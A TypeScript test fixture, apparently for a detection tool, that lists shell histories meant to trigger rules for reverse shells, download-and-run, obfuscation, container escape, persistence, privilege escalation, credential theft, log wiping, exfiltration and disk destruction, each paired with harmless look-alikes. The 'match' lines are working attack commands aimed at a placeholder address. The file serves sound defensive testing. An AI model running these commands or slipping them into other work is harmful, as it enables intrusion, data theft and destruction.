type Lines = readonly (readonly [name: string, log: string])[];

/** Histories that make each rule speak, and everyday ones like them that do not. */
export const EXAMPLES: Readonly<Record<string, { readonly match: Lines; readonly ignore: Lines }>> = {
  'command-reverse-shell': {
    match: [
      ['bash and /dev/tcp', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
      [
        'netcat with a pipe',
        'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f',
      ],
      [
        'a socket in Python',
        `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
      ],
    ],
    ignore: [
      ['is the port open', 'nc -zv node2 22'],
      ['a shell on another machine', "ssh node2 'bash -s' < setup.sh"],
    ],
  },
  'command-container-escape': {
    match: [
      ['the host’s root in a container', 'docker run --rm -it -v /:/host alpine chroot /host sh'],
      [
        'all rights and the host’s processes',
        'docker run --privileged --pid=host -it alpine nsenter -t 1 -m -u -n -i sh',
      ],
    ],
    ignore: [
      [
        'a folder of one’s own',
        'docker run -d --name web -p 80:80 -v /srv/www:/usr/share/nginx/html:ro nginx',
      ],
      ['the socket for a proxy', 'docker run -d -v /var/run/docker.sock:/var/run/docker.sock:ro traefik:v3'],
    ],
  },
  'command-download-and-run': {
    match: [
      ['piped into a shell', 'curl -fsSL http://203.0.113.9/a.sh | sh'],
      ['downloaded, made runnable, run', 'wget http://203.0.113.9/x86\nchmod +x x86\n./x86'],
    ],
    ignore: [
      ['an installer that its maker has people pipe', 'curl -fsSL https://get.docker.com | sh'],
      [
        'JSON from an API',
        'curl -s https://api.github.com/repos/docker/compose/releases/latest | jq -r .tag_name',
      ],
    ],
  },
  'command-obfuscation': {
    match: [
      ['base64 into a shell', 'echo aWQgPiAvdG1wL3g= | base64 -d | bash'],
      ['a name in pieces', 'a=cu;b=rl; $a$b -o x http://203.0.113.9/x'],
      ['a name behind wildcards', '/???/c?t /etc/hostname'],
    ],
    ignore: [['a secret of Kubernetes', "kubectl get secret db -o jsonpath='{.data.password}' | base64 -d"]],
  },
  'command-shell-escape': {
    match: [
      ['out of awk', `awk 'BEGIN {system("/bin/sh")}'`],
      ['out of tar', 'sudo tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh'],
    ],
    ignore: [['awk as it is meant', `awk '{print $1}' access.log | sort | uniq -c`]],
  },
  'command-persistence': {
    match: [
      ['a library before all others', 'echo /usr/lib/libx.so > /etc/ld.so.preload'],
      ['a cron job that fetches', 'echo "* * * * * root curl -s http://203.0.113.9/a | sh" > /etc/cron.d/x'],
      ['a start file', 'echo "nohup /tmp/.x/agent &" >> ~/.bashrc'],
    ],
    ignore: [
      ['a path for the shell', `echo 'export PATH=$PATH:~/bin' >> ~/.bashrc`],
      ['a unit of one’s own', 'sudo cp backup.service /etc/systemd/system/ && sudo systemctl daemon-reload'],
    ],
  },
  'command-account': {
    match: [['root under another name', 'useradd -o -u 0 -g 0 -M -d /root -s /bin/bash backup2']],
    ignore: [['an account for a colleague', 'sudo useradd -m -s /bin/bash jo']],
  },
  'command-privilege-escalation': {
    match: [
      ['a set-uid shell', 'cp /bin/bash /tmp/.b && chmod u+s /tmp/.b'],
      ['sudo for everyone', 'echo "pi ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers'],
    ],
    ignore: [['a script made runnable', 'chmod +x backup.sh']],
  },
  'command-credential-access': {
    match: [
      ['the password hashes', 'sudo cat /etc/shadow'],
      ['keys of everyone', 'find / -name id_rsa 2>/dev/null'],
    ],
    ignore: [
      ['a new key', 'ssh-keygen -t ed25519 -C pi@node1'],
      ['one’s own public key', 'cat ~/.ssh/id_ed25519.pub'],
    ],
  },
  'command-defence-evasion': {
    match: [
      ['the login log', 'sudo truncate -s 0 /var/log/auth.log'],
      ['the audit', 'sudo systemctl stop auditd'],
      ['false times', 'touch -r /bin/ls /usr/local/bin/agent'],
    ],
    ignore: [
      ['reading the log', 'sudo tail -f /var/log/auth.log'],
      ['another service', 'sudo systemctl stop nginx'],
    ],
  },
  'command-discovery': {
    match: [
      ['a sweep', 'for i in $(seq 1 254); do ping -c 1 -W 1 192.168.1.$i; done'],
      ['many questions in a line', 'id; whoami; uname -a; cat /etc/passwd; ss -tlnp; ps aux'],
    ],
    ignore: [['one question', 'uname -a']],
  },
  'command-discovery-burst': {
    match: [
      ['the first minute of an intruder', 'whoami\nid\nuname -a\ncat /etc/passwd\nss -tlnp\nps aux\nsudo -l'],
    ],
    ignore: [['a look at the load', 'uptime\nfree -h\ndf -h\ndocker ps']],
  },
  'command-collection': {
    match: [['all traffic', 'tcpdump -i eth0 -w /tmp/all.pcap']],
    ignore: [['the traffic of one port', 'sudo tcpdump -ni eth0 port 53']],
  },
  'command-tunnel': {
    match: [['a way back in', 'ssh -fN -R 2222:localhost:22 x@203.0.113.9']],
    ignore: [['a look at a page of a node', 'ssh -L 8080:localhost:80 node2']],
  },
  'command-miner': {
    match: [['a pool', './x -o stratum+tcp://203.0.113.9:3333 -u wallet']],
    ignore: [['a load test', 'stress-ng --cpu 4 --timeout 60s']],
  },
  'command-exfiltration': {
    match: [['a key into a connection', 'cat ~/.ssh/id_rsa | nc 203.0.113.9 9000']],
    ignore: [['a backup to a node', 'rsync -av /srv/data/ node2:/srv/data/']],
  },
  'command-destruction': {
    match: [
      ['everything', 'rm -rf --no-preserve-root /'],
      ['a disk', 'dd if=/dev/zero of=/dev/sda bs=1M'],
    ],
    ignore: [['a folder', 'rm -rf ./build node_modules']],
  },
  'command-lateral-movement': {
    match: [['somebody else’s agent', 'SSH_AUTH_SOCK=/tmp/ssh-abcd1234/agent.1234 ssh root@node2']],
    ignore: [['one’s own nodes', 'for n in node1 node2 node3; do ssh $n uptime; done']],
  },
};
